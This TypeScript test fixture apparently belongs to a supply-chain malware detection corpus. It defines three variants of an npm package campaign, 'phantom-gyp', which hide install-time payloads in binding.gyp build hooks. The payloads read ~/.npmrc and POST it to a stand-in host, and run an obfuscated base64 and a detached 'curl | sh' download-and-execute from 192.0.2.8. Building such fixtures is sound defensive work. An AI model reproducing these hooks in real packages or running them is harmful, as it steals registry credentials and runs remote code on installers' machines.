import { base64, type Campaign, manifest } from './kit.ts';

export const campaign: Campaign = {
  id: 'phantom-gyp',
  row: 'Miasma "Phantom Gyp" 6/2026, LeoPlatform',
  variants: [
    {
      concealment: 'plain',
      files: {
        'package.json': manifest(),
        'index.js': `require('fs').readFile(require('os').homedir() + '/.npmrc', (e, d) => fetch('https://drop.weir.test', { method: 'POST', body: d }));\n`,
        'binding.gyp': `{\n  "targets": [{ "target_name": "Setup", "type": "none", "sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"] }]\n}\n`,
      },
    },
    {
      concealment: 'obfuscated',
      files: {
        'package.json': manifest(),
        'index.js': 'module.exports = {};\n',
        'binding.gyp': `{ 'variables': { 'x%': "<!(node -e \\"eval(Buffer.from('${base64("require('child_process').exec('curl -s http://192.0.2.8/i | sh')")}','base64')+'')\\")" }, 'targets': [] }\n`,
      },
    },
    {
      concealment: 'moved',
      files: {
        'package.json': manifest({ gypfile: true }),
        'index.js': 'module.exports = {};\n',
        'binding.gyp': `{ "targets": [{ "target_name": "x", "type": "none", "actions": [{ "action_name": "a", "inputs": [], "outputs": ["o"], "action": ["node", "tools/cfg.js"] }] }] }\n`,
        'tools/cfg.js': `const cp = require('child_process');\ncp.spawn('sh', ['-c', 'curl -s http://192.0.2.8/i | sh'], { detached: true, stdio: 'ignore' });\n`,
      },
    },
  ],
};
